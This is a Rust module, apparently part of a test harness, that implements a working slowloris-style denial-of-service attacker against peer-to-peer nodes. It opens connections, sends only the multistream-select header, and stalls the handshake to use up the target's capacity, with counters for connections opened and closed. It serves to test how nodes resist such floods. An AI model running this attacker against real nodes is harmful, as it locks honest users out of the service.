//! The stalled-handshake attacker: opens TCP connections to a node from one source address,
//! sends the first line of multistream-select (so the node has started its handshake) and then
//! says nothing more, holding each connection open until the node closes it and opening a new
//! one in its place. Against a node that bounds neither its handshake time nor the pending
//! connections of one source, a few dozen such connections keep every honest client out.

use std::net::{IpAddr, SocketAddr};
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpSocket;
use tokio::sync::Semaphore;
use tokio_util::sync::CancellationToken;

/// The multistream-select header, length-prefixed as on the wire.
const MULTISTREAM_HEADER: &[u8] = b"\x13/multistream/1.0.0\n";

/// What the attacker did.
#[derive(Debug, Default)]
pub struct StallCounts {
    /// Connections opened (TCP accepted and the header sent).
    pub opened: AtomicU64,
    /// Connections the target closed (refused at once, or at its handshake timeout).
    pub closed_by_target: AtomicU64,
    /// Connections that could not be opened at all.
    pub connect_errors: AtomicU64,
}

/// A running attacker: stops (closing every connection) on [`Staller::stop`] or when dropped.
pub struct Staller {
    counts: Arc<StallCounts>,
    stop: CancellationToken,
    tasks: tokio::task::JoinSet<()>,
}

impl Staller {
    /// Keeps `held` stalled handshakes open against `target`, every connection from `source`
    /// (an address of this host, e.g. `127.0.0.2` on loopback), reopening at most
    /// `reopen_per_sec` of them per second.
    pub fn start(target: SocketAddr, source: IpAddr, held: usize, reopen_per_sec: u32) -> Self {
        let counts = Arc::new(StallCounts::default());
        let stop = CancellationToken::new();
        let permits = Arc::new(Semaphore::new(held));
        let mut tasks = tokio::task::JoinSet::new();
        {
            // One permit per 1/reopen_per_sec, never more than `held` banked.
            let (permits, stop) = (Arc::clone(&permits), stop.clone());
            let period = Duration::from_secs(1) / reopen_per_sec.max(1);
            tasks.spawn(async move {
                let mut tick = tokio::time::interval(period);
                loop {
                    tokio::select! {
                        () = stop.cancelled() => break,
                        _ = tick.tick() => if permits.available_permits() < held {
                            permits.add_permits(1);
                        },
                    }
                }
            });
        }
        for _ in 0..held {
            let (counts, stop, permits) = (Arc::clone(&counts), stop.clone(), Arc::clone(&permits));
            tasks.spawn(async move {
                loop {
                    let permit = tokio::select! {
                        () = stop.cancelled() => break,
                        p = permits.acquire() => p,
                    };
                    let Ok(permit) = permit else { break };
                    permit.forget();
                    tokio::select! {
                        () = stop.cancelled() => break,
                        () = hold_one(target, source, &counts) => {}
                    }
                }
            });
        }
        Self {
            counts,
            stop,
            tasks,
        }
    }

    /// What the attacker did so far.
    pub fn counts(&self) -> &StallCounts {
        &self.counts
    }

    /// Closes every connection and waits for the tasks to end.
    pub async fn stop(mut self) -> Arc<StallCounts> {
        self.stop.cancel();
        while self.tasks.join_next().await.is_some() {}
        Arc::clone(&self.counts)
    }
}

impl Drop for Staller {
    fn drop(&mut self) {
        self.stop.cancel();
    }
}

/// One connection: open it, start the handshake, then wait until the target closes it.
async fn hold_one(target: SocketAddr, source: IpAddr, counts: &StallCounts) {
    let socket = match source {
        IpAddr::V4(_) => TcpSocket::new_v4(),
        IpAddr::V6(_) => TcpSocket::new_v6(),
    };
    let connected = match socket.and_then(|s| s.bind(SocketAddr::new(source, 0)).map(|()| s)) {
        Ok(s) => s.connect(target).await,
        Err(e) => Err(e),
    };
    let mut stream = match connected {
        Ok(stream) => stream,
        Err(_) => {
            counts.connect_errors.fetch_add(1, Ordering::Relaxed);
            return;
        }
    };
    if stream.write_all(MULTISTREAM_HEADER).await.is_err() {
        counts.closed_by_target.fetch_add(1, Ordering::Relaxed);
        return;
    }
    counts.opened.fetch_add(1, Ordering::Relaxed);
    // Read (and ignore) whatever the target says until it hangs up.
    let mut buf = [0u8; 256];
    while matches!(stream.read(&mut buf).await, Ok(n) if n > 0) {}
    counts.closed_by_target.fetch_add(1, Ordering::Relaxed);
}
